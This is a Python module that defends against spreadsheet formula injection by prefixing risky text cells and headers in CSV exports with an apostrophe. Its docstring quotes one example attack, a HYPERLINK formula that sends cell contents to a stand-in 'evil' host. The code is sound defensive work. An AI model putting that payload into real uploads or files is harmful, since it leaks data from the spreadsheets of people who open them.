"""Spreadsheet-safe CSV: every CSV the app or the command line writes goes through :func:`safe_to_csv`.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is a formula to Excel,
LibreOffice and Google Sheets, so a "composition" uploaded as ``=HYPERLINK("http://evil/?"&A1)`` would run in the
spreadsheet of the next user who opens an export. Such text cells (and column names) get the standard ``'``
prefix. Numbers are left alone: numeric columns are never touched, and text that is exactly a number
(``-1.5``, ``+3e-4``) stays as it is, so negative numbers stay numbers.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would read as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a spreadsheet formula.

    Args:
        frame: any table.

    Returns:
        The same table; only text (object, string and category) columns and the header are changed.
    """
    safe = frame.copy()
    for column in safe.columns:
        dtype = safe[column].dtype
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype) or isinstance(
            dtype, pd.CategoricalDtype
        ):
            safe[column] = safe[column].astype(object).map(neutralise_cell)
    safe.columns = [neutralise_cell(c) for c in safe.columns]
    return safe


def safe_to_csv(frame: pd.DataFrame, path: Any = None, **kwargs: Any) -> str | None:
    """``frame.to_csv(path, **kwargs)`` after :func:`spreadsheet_safe` (the one way this project writes a CSV).

    Args:
        frame: the table.
        path: a file path or buffer; None returns the text.
        **kwargs: passed to :meth:`pandas.DataFrame.to_csv` (e.g. ``index=False``).

    Returns:
        The CSV text when ``path`` is None, else None.
    """
    return spreadsheet_safe(frame).to_csv(path, **kwargs)


__all__ = ["FORMULA_STARTS", "neutralise_cell", "safe_to_csv", "spreadsheet_safe"]
